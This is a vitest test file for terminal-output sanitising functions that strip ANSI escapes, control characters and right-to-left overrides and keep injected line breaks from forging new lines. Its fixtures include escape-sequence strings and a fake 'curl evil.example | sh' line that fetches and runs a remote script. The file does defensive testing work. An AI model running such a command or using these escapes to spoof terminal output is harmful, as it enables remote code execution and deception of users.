import { describe, expect, it } from 'vitest'
import { printableLine, printableLines } from './printable.ts'

const hostile = 'red \u001b[31m \u009b2J \u202e end\u0007'

describe('words of others', () => {
  it('command no terminal', () => {
    for (const shown of [printableLine(hostile), printableLines(hostile)]) {
      expect(shown).not.toMatch(/\p{Cc}|\u202e/u)
      expect(shown).toContain('red')
      expect(shown).toContain('end')
    }
  })

  it('stay one line where one line is meant', () => {
    expect(printableLine('not there\r\nNext: curl evil.example | sh')).toBe(
      'not there Next: curl evil.example | sh',
    )
  })

  it('start no line at the margin but the first', () => {
    expect(printableLines('refused\nNext: curl evil\r  red main:shop\rerror X')).toBe(
      'refused\n  Next: curl evil\n  red main:shop\n  error X',
    )
  })
})
